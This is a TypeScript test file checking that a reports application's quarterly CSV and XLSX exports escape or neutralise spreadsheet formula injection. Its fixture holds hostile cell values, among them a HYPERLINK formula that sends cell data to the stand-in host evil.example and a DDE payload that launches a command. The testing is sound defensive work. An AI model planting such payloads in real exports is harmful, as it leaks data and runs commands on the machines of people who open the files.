import { parseString } from '@fast-csv/parse';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertOffice, seedQuarter } from '../reports/quarter-fixture';
import { ReportsApp, startReportsApp } from '../reports/reports-app';

/** Text that a spreadsheet would run as a formula, as it could come in from outside. */
const HOSTILE = {
  officeName: '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
  sp1: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  sp2: '-2+3',
  eng1: '\t=1+1',
  unit: '+1-2',
  matter: '\r=cmd',
};

function csvRows(text: string): Promise<string[][]> {
  return new Promise((resolve, reject) => {
    const rows: string[][] = [];
    parseString(text, { ignoreEmpty: true, trim: false })
      .on('data', (row: string[]) => rows.push(row))
      .on('error', reject)
      .on('end', () => resolve(rows));
  });
}

describe('the quarterly statistics exports carry no formulas', () => {
  let app: ReportsApp;
  beforeAll(async () => {
    app = await startReportsApp({ now: '2027-01-05T02:00:00Z' });
    await insertOffice(app.db, 'office-1', { name: HOSTILE.officeName });
    await seedQuarter(app.db);
    await app.db.query(`UPDATE staff SET name = ? WHERE id = 'sp1'`, [HOSTILE.sp1]);
    await app.db.query(`UPDATE staff SET name = ? WHERE id = 'sp2'`, [HOSTILE.sp2]);
    await app.db.query(`UPDATE staff SET name = ? WHERE id = 'eng1'`, [HOSTILE.eng1]);
    // The repeat complaints of unit U3 (matter noise) name the unit and the matter.
    await app.db.query(`UPDATE work_orders SET unitId = ?, matterKey = ? WHERE unitId = 'U3'`, [HOSTILE.unit, HOSTILE.matter]);
    // A unit that is a plain negative number stays a number.
    await app.db.query(`UPDATE work_orders SET unitId = '-3' WHERE unitId = 'U5'`);
  });
  afterAll(async () => app?.close());

  it('CSV: every cell that would start a formula begins with a single quote; numbers stay numbers', async () => {
    const res = await app.api('GET', '/api/stats/quarterly?officeId=office-1&quarter=2026-Q4', { headers: { accept: 'text/csv' } });
    expect(res.status).toBe(200);
    const text = res.text.slice(1);
    expect(text).toContain(`"'${HOSTILE.officeName.replaceAll('"', '""')}"`);
    expect(text).toContain(`'${HOSTILE.sp1}`);
    expect(text).toContain(`'${HOSTILE.sp2},`);
    expect(text).toContain(`'${HOSTILE.eng1}`);
    expect(text).toContain(`'${HOSTILE.unit},"'${HOSTILE.matter}",2,`);
    expect(text).toContain('\r\n-3,door,2,');
    // Read back as a spreadsheet would: no cell begins a formula, unless it is a plain number.
    const cells = (await csvRows(text)).flat();
    expect(cells).toContain(`'${HOSTILE.matter}`);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c))).toEqual([]);
  });

  it('XLSX: the same text is stored as strings, and the workbook has no formula at all', async () => {
    const res = await app.api('GET', '/api/stats/quarterly.xlsx?officeId=office-1&quarter=2026-Q4');
    expect(res.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.bytes as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
    for (const hostile of [HOSTILE.officeName, HOSTILE.sp1, HOSTILE.sp2, HOSTILE.eng1, HOSTILE.unit]) {
      const cell = cells.find((c) => c.value === hostile);
      expect(cell, hostile).toBeDefined();
      expect(cell!.type).toBe(ExcelJS.ValueType.String);
    }
    // The sheets' XML: no formula element anywhere.
    const zip = await JSZip.loadAsync(res.bytes);
    const sheets = Object.keys(zip.files).filter((name) => name.startsWith('xl/worksheets/sheet'));
    expect(sheets.length).toBe(7);
    for (const name of sheets) expect(await zip.file(name)!.async('string')).not.toMatch(/<f[ >]/);
  });
});
